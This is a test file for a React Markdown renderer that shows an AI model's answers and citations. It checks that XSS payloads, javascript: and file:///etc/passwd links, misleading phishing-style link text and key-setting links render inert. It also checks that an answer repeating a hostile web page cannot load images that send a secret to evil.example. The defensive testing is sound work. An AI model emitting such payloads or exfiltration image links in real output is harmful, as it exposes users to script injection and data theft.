import { renderToStaticMarkup } from "react-dom/server";
import { afterEach, describe, expect, it, vi } from "vitest";
import { hostilePages } from "../../../test/hostile-pages/pages.ts";
import type { KnownSource } from "../client/sources.ts";
import { SourceList } from "./cited.tsx";
import { readLink } from "./link.ts";
import { Markdown } from "./markdown.tsx";
import { SourcesContext } from "./sources.ts";

function draw(text: string, open = false, sources: Record<number, KnownSource> = {}): string {
  const drawn = (
    <SourcesContext value={sources}>
      <Markdown text={text} open={open} />
    </SourcesContext>
  );
  return renderToStaticMarkup(drawn).replaceAll(/ class="[^"]*"/g, "");
}

const tea: KnownSource = {
  ...{ n: 3, url: "https://tea.example/a", title: 'Tea "1610" <b>', date: null, fetched_at: null, hash: null },
  read: true,
};

afterEach(() => {
  vi.unstubAllGlobals();
});

describe("a model's text", () => {
  it("is drawn from Markdown", () => {
    expect(draw("# Tea\n\n- **one**\n- `two`\n\n1 < 2 &amp; 3")).toBe(
      '<div><h3 dir="auto">Tea</h3><ul dir="auto"><li><strong>one</strong></li><li><code>two</code></li></ul><p dir="auto">1 &lt; 2 &amp; 3</p></div>',
    );
    expect(draw("| a | b |\n|---|--:|\n| 1 | 2 |")).toContain("<td>1</td><td>2</td>");
  });

  it("has its lists of tasks with a box before each text, also where entries are apart", () => {
    expect(draw("- [x] **done**\n- [ ] open\n- plain")).toBe(
      '<div><ul dir="auto"><li>☑ <strong>done</strong></li><li>☐ open</li><li>plain</li></ul></div>',
    );
    const apart = "<li><p>☑ done</p></li><li><p>☐ open</p></li>";
    expect(draw("- [x] done\n\n- [ ] open")).toBe(`<div><ul dir="auto">${apart}</ul></div>`);
  });

  it("reads from the right where it is written so, block by block", () => {
    const text = "# مرحبا\n\nنص\n\n> اقتباس\n\n| أ | b |\n|--|--|\n| ج | d |";
    for (const tag of ["h3", "p", "blockquote"]) expect(draw(text)).toContain(`<${tag} dir="auto">`);
    // What has a direction of its own does not count for the block around it.
    expect(draw(text)).toContain("<p>اقتباس</p>");
    expect(draw(text)).toMatch(/<div tabindex="0" dir="auto"><table>.*<td>ج<\/td>/);
  });

  it.each([
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "a <b>bold</b> <iframe src=//evil.example></iframe>",
    "<!-- x --><style>*{display:none}</style>",
  ])("shows markup as text: %s", (text) => {
    expect(draw(text)).not.toMatch(/<(script|img|iframe|style|b)\b/);
    expect(draw(text)).toContain("&lt;");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>",
    "vbscript:x",
    "file:///etc/passwd",
    "/v1/threads",
  ])("links nowhere but to the web: %s", (address) => {
    expect(readLink(address)).toBeNull();
    expect(draw(`[click](${address})`)).not.toContain("<a");
  });

  it("has links without a referrer, and loads no image", () => {
    expect(draw("[tea](https://tea.example/a) ![cup](https://tea.example/c.png)")).toBe(
      '<div><p dir="auto"><a href="https://tea.example/a" target="_blank" rel="noopener noreferrer">tea</a> <a href="https://tea.example/c.png" target="_blank" rel="noopener noreferrer">cup</a></p></div>',
    );
  });

  it.each([
    "[click](http://localhost:8787/#key=k)",
    "<http://localhost:8787/#key=k>",
    "http://localhost:8787/#key=k",
    "[click](http://127.0.0.1:8787/?a#x&%6bey=k)",
    "![click](http://user@LOCALHOST:8787/#key=k)",
    "[click](http:\\\\localhost:8787/#key=k)",
    "[click](#key=k)",
    "[click](/#key=k)",
  ])("has no link that would sign in with a key of its choice: %s", (text) => {
    vi.stubGlobal("location", new URL("http://localhost:8787/"));
    expect(draw(text)).not.toContain("<a");
    expect(draw(text)).toMatch(/click|http/);
    expect(draw("[click](http://localhost:8787/#thread=t)")).toContain("<a");
    expect(draw("[click](http://localhost:3000/#key=k)")).toContain("<a");
  });

  it.each([
    ["[https://bank.example/login](https://evil.example/a)", "evil.example"],
    ["[**www.bank.example**](http://evil.example:81/)", "evil.example:81"],
    ["[ https://bank.example@evil.example ](https://bank.example.evil.example/)", "bank.example.evil.example"],
    ["[https://bank.example](mailto:a@evil.example)", "a@evil.example"],
  ])("says where a link leads whose text is the address of another place: %s", (text, place) => {
    expect(draw(text)).toContain(`</a> (${place})</p>`);
  });

  it.each([
    "[https://bank.example/login](https://bank.example/other)",
    "[www.bank.example](https://bank.example/)",
    "[HTTPS://例子.example](https://例子.example/a)",
    "[server.js](https://bank.example/server.js)",
    "https://bank.example/a",
    "<https://bank.example/a>",
  ])("says nothing of a link whose text is its own address, or none: %s", (text) => {
    expect(draw(text)).toContain("</a></p>");
  });

  it("shows unfinished markup as it will look", () => {
    expect(draw("so **bol", true)).toBe('<div data-open="true"><p dir="auto">so <strong>bol</strong></p></div>');
    expect(draw("so **bol")).toBe('<div><p dir="auto">so **bol</p></div>');
  });

  it.each(["*", "_a", "[", "![", "`", "**a*", "> ", "- ", "<a ", "&#", "](", "~~", "|", "1. "])(
    "is read in time, however it was made to hold the reader up: %s",
    (piece) => {
      const began = performance.now();
      for (const length of [2_990, 9_990]) draw(piece.repeat(Math.floor(length / piece.length)), true);
      // A fraction of a second; unbounded parsing would take minutes.
      expect(performance.now() - began).toBeLessThan(20_000);
    },
  );

  it("is shown as it is where it is nested too deeply to follow", () => {
    expect(draw(`${"> ".repeat(4_000)}deep`)).toContain("deep");
  });
});

describe("a citation", () => {
  it("is a link with the source's title, in prose, lists and tables", () => {
    const link =
      '[<a href="https://tea.example/a" title="Tea &quot;1610&quot; &lt;b&gt;" target="_blank" rel="noopener noreferrer">3</a>]';
    for (const text of ["In 1610 [3].", "- In 1610 [3].", "| a |\n|---|\n| x [3] |", "**In 1610** [3]"])
      expect(draw(text, false, { 3: tea }).replaceAll(/<\/?span>/g, "")).toContain(link);
  });

  it("shows what was not read as such, and what is unknown as text", () => {
    const drawn = draw("In 1610 [3, 4]. Ships [5].", false, { 3: { ...tea, read: false, title: null } });
    expect(drawn).toContain('title="tea.example (not read)" data-unread="true"');
    expect(drawn).toContain("</a>, 4]");
    expect(drawn).toContain("Ships [5].");
  });

  it.each(["`a [3]`", "```\na [3]\n```", "a[3]", "[3](https://x.example/)", "[^3]"])("is not made of %s", (text) => {
    expect(draw(text, false, { 3: tea })).not.toContain("tea.example");
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "not an address"])("leads nowhere but to the web: %s", (url) => {
    expect(draw("In 1610 [3].", false, { 3: { ...tea, url } })).not.toContain("<a");
    const list = (
      <SourcesContext value={{ 3: { ...tea, url } }}>
        <SourceList text="In 1610 [3]." />
      </SourcesContext>
    );
    expect(renderToStaticMarkup(list)).not.toContain("<a");
  });

  it("is listed below its text once, by number, with host and whether it was read", () => {
    const list = (text: string) =>
      renderToStaticMarkup(
        <SourcesContext value={{ 3: tea, 1: { ...tea, n: 1, title: "Ships", read: false } }}>
          <SourceList text={text} />
        </SourcesContext>,
      ).replaceAll(/<[^>]*>/g, "|");
    expect(list("See [3], [1][3] and [9].").replaceAll(/\|+/g, "|")).toBe(
      "|2 sources|[1]|Ships| |tea.example| |not read|[3]|Tea &quot;1610&quot; &lt;b&gt;| |tea.example|",
    );
    expect(list("Nothing cited, `[3]`.")).toBe("");
  });
});

describe("an answer that repeats a hostile page", () => {
  it.each(hostilePages.map(({ name, body }) => [name, body]))("loads nothing: %s", (_name, body) => {
    const text = `${body}\n\n![chart](https://evil.example/p.png?d=secret) <img src="https://evil.example/q.png">`;
    const drawn = draw(text, false, { 3: { ...tea, title: body.slice(0, 300) } });
    expect(drawn).not.toMatch(/<(?:img|iframe|script|style|link|object|embed|video|audio|source)\b/i);
    expect(drawn.replaceAll(/&[^;]+;/g, "")).not.toMatch(/<[^>]*\s(?:src|srcset|poster|style|background)=/i);
  });
});
